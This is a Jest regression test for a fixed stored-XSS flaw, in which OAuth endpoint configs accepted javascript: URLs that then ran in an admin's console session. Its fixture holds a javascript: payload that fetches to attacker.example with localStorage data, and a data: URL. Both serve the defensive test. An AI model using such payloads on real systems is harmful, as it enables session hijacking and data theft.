import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { SourceConnection } from '../../src/modules/connections/source-connection.entity.js';
import { graphql, http, startTestServer, type TestServer } from '../support/harness.js';

/**
 * Issue 16, finding 2: a sign-in's `auth_url` is built from the connection's config, and the stub
 * source (in every instance's catalog) took any string as its OAuth endpoints. A member could create
 * a connection whose authorization endpoint was `javascript:…//`: the auth_url kept that scheme (its
 * query after the `//` comment), and the console sends the browser to an auth_url with
 * `window.location.assign`, so the admin who clicked "Sign in again" ran the member's script in the
 * console with the admin's session. Now sign-ins begin only with http(s) endpoints (a 422 otherwise,
 * for every source and for configs stored before), the stub's endpoints are http(s) URLs, and the
 * console refuses to navigate to anything else.
 */
describe("issue 16-02: an auth_url is always http(s), whatever a connection's config names", () => {
  let server: TestServer;
  let member: string;
  let admin: string;
  const collection = 'issue16-02';
  const script = 'javascript:fetch(`https://attacker.example/?`+localStorage.key(0))//';
  const ownClient = { client_id: 'own-client', client_secret: 'own-secret' };

  beforeAll(async () => {
    server = await startTestServer({ deployment: 'servers', roles: { api: true, worker: false }, env: { CATCHMENT_RATE_LIMIT_REQUESTS: '0' } });
    const orgId = (await graphql(server.url, '{ viewer { organization { id } } }', {}, { apiKey: server.apiKey })).body.data.viewer.organization.id;
    const issue = (role: string) => server.running.core.services.auth.issueToken({ organizationId: orgId, email: `${role}@example.com`, role }).then((t) => t.access_token);
    [member, admin] = await Promise.all([issue('member'), issue('admin')]);
    expect((await http(server.url, 'POST', '/collections', { apiKey: server.apiKey, body: { name: 'Issue 16-02', readable_id: collection } })).status).toBe(200);
  }, 60_000);
  afterAll(() => server?.stop());

  const create = (config: Record<string, unknown>) =>
    http(server.url, 'POST', '/source-connections', { token: member, body: { short_name: 'stub', readable_collection_id: collection, config, authentication: ownClient, sync_immediately: false } });

  test('a member cannot create a browser sign-in whose authorization or token endpoint is a javascript: URL', async () => {
    const authorize = await create({ oauth_authorize_url: script });
    expect(authorize.status).toBe(422);
    expect(authorize.body.detail).toEqual([expect.objectContaining({ loc: ['body', 'config', 'oauth_authorize_url'] })]);
    const token = await create({ oauth_token_url: 'data:text/plain,x' });
    expect(token.status).toBe(422);
    expect(token.body.detail).toEqual([expect.objectContaining({ loc: ['body', 'config', 'oauth_token_url'] })]);
    const listed = await http(server.url, 'GET', '/source-connections', { token: member });
    expect(listed.body).toEqual([]);
  });

  test('a connection stored with such a config before gets no auth_url: signing in again is a 422', async () => {
    const created = await create({});
    expect(created.status).toBe(200);
    expect(new URL(created.body.auth.auth_url).protocol).toBe('https:');
    // As an older version stored it: the config is written as is, past today's schema.
    const em = server.running.core.database.orm.em.fork();
    const row = await em.findOneOrFail(SourceConnection, { id: created.body.id });
    row.config = { ...row.config, oauth_authorize_url: script };
    await em.flush();

    const again = await http(server.url, 'POST', `/source-connections/${created.body.id}/authorize`, { token: admin, body: {} });
    expect(again.status).toBe(422);
    expect(again.body.detail).toEqual([expect.objectContaining({ loc: ['body', 'config'], type: 'url_parsing' })]);
    expect(JSON.stringify(again.body)).not.toContain('javascript:');
  });
});
